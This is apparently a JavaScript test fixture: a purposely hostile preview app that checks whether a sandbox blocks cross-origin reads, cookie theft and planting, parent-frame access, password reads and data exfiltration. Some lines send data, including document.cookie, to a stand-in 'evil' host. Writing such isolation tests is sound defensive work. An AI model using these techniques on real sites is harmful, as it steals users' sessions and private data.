// A hostile app for previews: it tries to read data that is not its own, and to send requests to
// others. It is built as a project, and is not part of the product. Each attempt stores its result
// in `results`.
const asked = new URLSearchParams(window.location.search)
const [hub, evil, other] = ['hub', 'evil', 'other'].map((name) => asked.get(name))
const hubByName = hub.replace('127.0.0.1', 'localhost')
const secret = '/api/played/secret'
const results = {}
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

async function attempt(name, act) {
  try {
    const got = await Promise.race([act(), pause(1500).then(() => '(no answer)')])
    results[name] = String(got).slice(0, 100)
  } catch (error) {
    results[name] = `threw ${error?.name}`
  }
}

const text = async (address, options) => (await fetch(address, options)).text()
const cookies = { credentials: 'include' }
const element = (name, values) => Object.assign(document.createElement(name), values)
const loaded = (made, to = document.body, say = () => 'loaded') =>
  new Promise((resolve, reject) => {
    made.onload = () => resolve(say())
    made.onerror = () => reject(new Error('It did not load'))
    to.append(made)
  })
const contentOf = (src) => {
  const frame = element('iframe', { src })
  return loaded(frame, document.body, () => frame.contentDocument?.body.innerText ?? 'closed')
}
const opened = (made) =>
  new Promise((resolve, reject) => {
    made.onopen = () => resolve('open')
    made.onerror = () => reject(new Error('It did not open'))
  })
const peer = (Peer) =>
  new Promise((resolve) => {
    const made = new Peer({ iceServers: [{ urls: `stun:${new URL(evil).host}` }] })
    made.createDataChannel('x')
    made.onicecandidate = ({ candidate }) => candidate && resolve('CANDIDATE')
    made.createOffer().then((offer) => made.setLocalDescription(offer))
  })

const attempts = {
  'fetch of the hub': () => text(hub + secret, cookies),
  'fetch of the hub by another name': () => text(hubByName + secret, cookies),
  'fetch of the hub without CORS': () => text(hub + secret, { ...cookies, mode: 'no-cors' }),
  'fetch of its own host': () => text(secret, cookies),
  'fetch that climbs': () => text('../../api/played/secret', cookies),
  'a post to the hub': () => text(hub + secret, { ...cookies, method: 'POST', body: '{}' }),
  'an XMLHttpRequest of the hub': () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.withCredentials = true
      request.onload = () => resolve(request.responseText)
      request.onerror = () => reject(new Error('refused'))
      request.open('GET', hub + secret)
      request.send()
    }),
  cookies: () => `cookies: ${document.cookie}`,
  'a cookie of the hub': () => {
    document.cookie = 'synthwire_session=EVIL; Path=/'
    return document.cookie
  },
  'the page around it': () =>
    window.parent === window ? 'none' : window.parent.document.body.innerHTML,
  'a variable of the page around it': () =>
    window.parent === window ? 'none' : String(window.parent.played),
  'the page above': () => {
    if (window.top !== window) window.top.location = `${evil}/top`
  },
  'a window': () => (window.open(`${evil}/window`) ? 'OPENED' : 'blocked'),
  'a window of the hub': () => (window.open(hub + secret) ? 'OPENED' : 'blocked'),
  'a link to a new tab': () => {
    const link = element('a', { href: `${evil}/tab`, target: '_blank' })
    document.body.append(link)
    link.click()
  },
  'a link to the top': () => {
    if (window.top === window) return
    const link = element('a', { href: `${evil}/link`, target: '_top' })
    document.body.append(link)
    link.click()
  },
  'fetch of another project': () => text(`/preview/${other}/data.json`),
  'a script of another project': () =>
    loaded(
      element('script', { src: `/preview/${other}/data.js` }),
      document.head,
      () => window.other,
    ),
  'another project in a frame': () => contentOf(`/preview/${other}/`),
  'the hub in a frame': () => contentOf(hub + secret),
  'the hub as a script': () => loaded(element('script', { src: hub + secret }), document.head),
  'the hub as an object': () => loaded(element('object', { data: hub + secret })),
  'the hub as a picture': () => loaded(element('img', { src: hub + secret })),
  storage: () => {
    window.localStorage.setItem('mine', '1')
    return `${window.localStorage.length} ${window.localStorage.getItem('played')}`
  },
  'the storage of another realm': () => {
    const frame = element('iframe', {})
    document.body.append(frame)
    return frame.contentWindow.localStorage.getItem('played')
  },
  'a database': () => {
    window.indexedDB.open('played')
    return 'opened'
  },
  'messages between tabs': () =>
    new Promise((resolve) => {
      const channel = new BroadcastChannel('played')
      channel.onmessage = ({ data }) => resolve(data)
      setTimeout(() => resolve('nothing heard'), 400)
    }),
  'a service worker': async () =>
    `registered ${(await navigator.serviceWorker.register('./worker.js')).scope}`,
  // oxlint-disable-next-line no-eval
  eval: () => `evaluated ${(0, eval)('1 + 1')}`,
  'fetch elsewhere': () => text(`${evil}/fetch?${document.cookie}`),
  'a picture from elsewhere': () => loaded(element('img', { src: `${evil}/picture` })),
  'a beacon': () => navigator.sendBeacon(`${evil}/beacon`, 'x'),
  'events from elsewhere': () => opened(new EventSource(`${evil}/events`)),
  'a socket': () => opened(new WebSocket(`${evil.replace('http', 'ws')}/socket`)),
  'styles from elsewhere': async () => {
    const textContent = `@import url(${evil}/import.css); body { background: url(${evil}/ground) }`
    document.head.append(element('style', { textContent }))
    await pause(400)
  },
  'a font from elsewhere': () => new FontFace('x', `url(${evil}/font)`).load(),
  'a module from elsewhere': () => import(`${evil}/module.js`),
  'hints of what comes next': async () => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'])
      document.head.append(element('link', { rel, as: 'script', href: `${evil}/${rel}` }))
    await pause(400)
  },
  'a worker of its own text': () =>
    new Promise((resolve, reject) => {
      const code = `fetch('${evil}/worker').then(() => postMessage('REACHED'), () => postMessage('blocked'))`
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
      worker.onmessage = ({ data }) => resolve(data)
      worker.onerror = () => reject(new Error('blocked'))
    }),
  'calls to others': () => peer(window.RTCPeerConnection),
  'a transport': () => new window.WebTransport(evil.replace('http', 'https')).ready,
  'calls by a worker': () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(new URL('worker.js', window.location.href))
      worker.onmessage = ({ data }) => resolve(data)
      worker.onerror = () => reject(new Error('blocked'))
    }),
  passwords: async () => JSON.stringify(await navigator.credentials.get({ password: true })),
  'a name and a referrer': () => `${window.name} ${document.referrer}`,
  'the window that opened it': () => String(window.opener),
}
for (const [kind, src] of Object.entries({
  blank: 'about:blank',
  none: '',
  data: 'data:text/html,x',
  script: 'javascript:1',
})) {
  attempts[`calls by a frame: ${kind}`] = () => {
    const frame = element('iframe', src === '' ? {} : { src })
    document.body.append(frame)
    return peer(frame.contentWindow.RTCPeerConnection)
  }
}

await Promise.all(Object.entries(attempts).map(([name, act]) => attempt(name, act)))
console.log('tried', results)
window.results = results
// This attempt would leave the page if it succeeded, so it is the last one.
window.submitForm = () => {
  const form = element('form', { action: `${evil}/form`, method: 'post' })
  document.body.append(form)
  form.submit()
}
